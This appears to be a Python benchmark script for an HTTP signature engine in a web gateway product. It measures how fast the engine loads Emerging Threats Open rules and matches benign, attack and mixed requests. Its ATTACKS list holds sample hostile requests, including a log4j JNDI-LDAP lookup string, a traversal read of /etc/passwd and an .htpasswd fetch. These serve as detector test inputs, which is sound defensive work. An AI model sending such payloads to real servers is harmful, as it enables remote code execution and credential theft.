"""HTTP signature load time and matching rate on one core, on the real Emerging Threats Open rules
read from ../shared/data (never shipped with the product; the script stops with a message when
the data is absent).

    .venv/bin/python -m tests.bench.httpsig [--rules DIR|FILE|ARCHIVE] [--requests 3000] [--seed 1]
                                            [--repeats 15] [--chunk 300]

Prints the load (read, parse and index seconds; rules loaded, skipped with the main reasons,
disabled, malformed; request and response signatures; how many need no literal), then requests
per second for `HttpRuleset.match` over:

- benign: browser-like requests (Chrome/Firefox/Safari/Edge, ordinary paths, queries, cookies,
  a third of them POSTs with form or JSON bodies), every one freshly built;
- attacks: requests written to match real rules (log4j, traversal, a scanner UA, ...);
- anchor hits: for a random sample of request signatures, a request carrying that signature's
  literal in its buffer, so the prefilter lets it through and the full evaluation runs (the
  expensive path; most of these still do not match);
- a mix of 90 % benign, 5 % attacks, 5 % anchor hits;
then `match_response` on ordinary pages, and for scale the same requests tried against every
signature without the prefilter. Each rate is the best of `--repeats` chunks (the median too):
on a shared VM CPU steal swings single runs. A script, not a test: it asserts nothing.
"""

from __future__ import annotations

import argparse
import random
import statistics
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path

if __package__ in (None, ""):  # run as a file: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from swg.httpsig import ContentMatch, HttpRequestView, HttpResponseView, HttpRuleset, request_buffers
from swg.httpsig.match import signature_matches
from swg.runtime.httpsig_import import import_rules

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"
ET_OPEN = DATA / "et-open-suricata" / "rules-2024-04-21-suricata-5.0-enhanced"
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 Edg/124.0.2478.67",
]
WORDS = ("soshiki", "kurashi", "kosodate", "bousai", "news", "event", "shisetsu", "kenko", "zei", "gomi",
         "static", "img", "css", "js", "api", "v1", "search", "detail", "list", "top")
HOSTS = ("www.city.example.lg.jp", "www.pref.example.lg.jp", "www.example.jp", "www.yahoo.co.jp",
         "login.microsoftonline.com", "cdn.jsdelivr.net", "www.google.com", "portal.example.go.jp")
ATTACKS = [
    ("GET", "/?x=${jndi:ldap://203.0.113.9/a}", "www.example.jp", UAS[0], b""),
    ("GET", "/cgi-bin/view?file=../../../../etc/passwd", "10.0.0.4", UAS[1], b""),
    ("GET", "/", "update.example.net", "IExplorer 34", b""),
    ("GET", "/x", "c2.ez-dns.com", UAS[0], b""),
    ("GET", "/rds-help/advanced/deferredView.jsp?href= http://evil.example/", "10.0.0.1", UAS[2], b""),
    ("POST", "/portal/", "10.0.0.2", UAS[0],
     b'{"jsonrpc":"2.0","method":"/getEnterpriseUser","params":{"id":12},"id":12}'),
    ("GET", "/.htpasswd", "10.0.0.3", "curl/8.4.0", b""),
    ("GET", "/install.sh", "get.example.com", "python-requests/2.31.0", b""),
]
_HEADER_OF = {"http.user_agent": "User-Agent", "http.referer": "Referer", "http.cookie": "Cookie",
              "http.accept": "Accept", "http.content_type": "Content-Type"}


def benign(rng: random.Random, count: int) -> list[HttpRequestView]:
    out = []
    for n in range(count):
        host = rng.choice(HOSTS)
        path = "/" + "/".join(rng.choice(WORDS) for _ in range(rng.randint(1, 4)))
        path += rng.choice((".html", "/", ".css", ".js", ".png", ""))
        if rng.random() < 0.4:
            path += f"?id={rng.randint(1, 99999)}&page={rng.randint(1, 9)}&_={n}"
        headers = [("Host", host), ("User-Agent", rng.choice(UAS)),
                   ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                   ("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"), ("Accept-Encoding", "gzip, deflate, br"),
                   ("Connection", "keep-alive"), ("Referer", f"https://{host}/"),
                   ("Cookie", f"_ga=GA1.2.{rng.randint(1, 10**9)}; session={rng.getrandbits(64):x}")]
        method, body = "GET", b""
        if rng.random() < 0.33:
            method = "POST"
            if rng.random() < 0.5:
                body = f'{{"type":"click","target":"{rng.choice(WORDS)}","n":{n}}}'.encode()
                headers.append(("Content-Type", "application/json"))
            else:
                body = f"name=%E5%B1%B1%E7%94%B0&email=taro{n}%40example.jp&msg={rng.choice(WORDS)}".encode()
                headers.append(("Content-Type", "application/x-www-form-urlencoded"))
            headers.append(("Content-Length", str(len(body))))
        out.append(HttpRequestView.of(method, path, headers, body, tls=True))
    return out


def attacks(count: int) -> list[HttpRequestView]:
    return [HttpRequestView.of(m, p, [("Host", h), ("User-Agent", ua), ("Accept", "*/*")], b, port=80)
            for m, p, h, ua, b in (ATTACKS * (count // len(ATTACKS) + 1))[:count]]


def anchor_hits(rng: random.Random, ruleset: HttpRuleset, count: int) -> list[HttpRequestView]:
    """Requests carrying a sampled request signature's first positive content in its buffer."""
    out: list[HttpRequestView] = []
    signatures = [s for s in ruleset.signatures if s.phase == "request"]
    while len(out) < count:
        signature = rng.choice(signatures)
        path, host, ua, body = f"/{rng.choice(WORDS)}/", rng.choice(HOSTS), rng.choice(UAS), b""
        extra: list[tuple[str, str]] = []
        for inspection in signature.inspections:
            content = next((item for item in inspection.items
                            if isinstance(item, ContentMatch) and not item.negated), None)
            if content is None:
                continue
            text = content.pattern.decode("latin-1")
            if inspection.buffer in ("http.uri", "http.uri.raw"):
                path = text if text.startswith("/") else path + text
            elif inspection.buffer == "http.host":
                host = text.strip(".") or host
            elif inspection.buffer == "http.request_body":
                body = content.pattern
            elif inspection.buffer in _HEADER_OF:
                if inspection.buffer == "http.user_agent":
                    ua = text
                else:
                    extra.append((_HEADER_OF[inspection.buffer], text))
        headers = [("Host", host), ("User-Agent", ua), ("Accept", "*/*"), *extra]
        out.append(HttpRequestView.of("POST" if body else "GET", path, headers, body, port=80))
    return out


def rate(fn: Callable[[HttpRequestView], object], items: Sequence[HttpRequestView], repeats: int,
         chunk: int) -> tuple[float, float]:
    rates = []
    for round_ in range(repeats):
        start = (round_ * chunk) % max(1, len(items) - chunk + 1)
        part = items[start:start + chunk]
        began = time.perf_counter()
        for item in part:
            fn(item)
        rates.append(len(part) / (time.perf_counter() - began))
    return max(rates), statistics.median(rates)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rules", type=Path, default=ET_OPEN)
    parser.add_argument("--requests", type=int, default=3_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--repeats", type=int, default=15)
    parser.add_argument("--chunk", type=int, default=300)
    args = parser.parse_args()
    if not args.rules.exists():
        sys.exit(f"rules not found at {args.rules} (ET Open lives in ../shared/data, outside the repository)")

    imported = import_rules(args.rules)
    ruleset, report = imported.ruleset, imported.report
    print(f"load: {len(imported.files)} files, read {imported.read_seconds:.2f} s, parse+index "
          f"{imported.parse_seconds:.2f} s")
    print(report.summary(8))
    print(f"signatures: {ruleset.count('request'):,} request, {ruleset.count('response'):,} response; "
          f"without a literal (always tried): {ruleset.unanchored('request')} request, "
          f"{ruleset.unanchored('response')} response")

    rng = random.Random(args.seed)
    plain = benign(rng, args.requests)
    bad = attacks(max(50, args.requests // 10))
    anchored = anchor_hits(rng, ruleset, max(200, args.requests // 5))
    mix = plain[: args.requests * 9 // 10] + bad[: args.requests // 20] + anchored[: args.requests // 20]
    rng.shuffle(mix)
    for label, items in (("benign", plain), ("attacks", bad), ("anchor hits", anchored), ("mix 90/5/5", mix)):
        hits = sum(1 for r in items if ruleset.match(r))
        best, median = rate(ruleset.match, items, args.repeats, args.chunk)
        print(f"match {label:<12} {best:>8,.0f} requests/s best ({median:,.0f} median; "
              f"{1e6 / best:,.0f} µs each); {hits:,} of {len(items):,} with a hit")

    page = HttpResponseView.of(200, "OK", [("Content-Type", "text/html; charset=utf-8"), ("Server", "nginx")],
                               b"<!DOCTYPE html><html lang=ja><head><title>Example</title></head><body>"
                               + b"<p>news</p>" * 200 + b"</body></html>")
    best, median = rate(lambda r: ruleset.match_response(r, page), plain, args.repeats, args.chunk)
    print(f"match_response, 2.3 KiB page {best:>8,.0f} responses/s best ({median:,.0f} median)")

    requests = [s for s in ruleset.signatures if s.phase == "request"]
    sample = plain[:20]
    began = time.perf_counter()
    for request in sample:
        buffers = request_buffers(request)

        def lowered(name: str, b: dict[str, bytes | None] = buffers) -> bytes:
            return (b.get(name) or b"").lower()

        for signature in requests:
            signature_matches(signature, buffers, lowered)
    each = (time.perf_counter() - began) / len(sample)
    print(f"without the prefilter (every signature tried): {1 / each:,.0f} requests/s "
          f"({each * 1e3:.1f} ms each)")


if __name__ == "__main__":
    main()
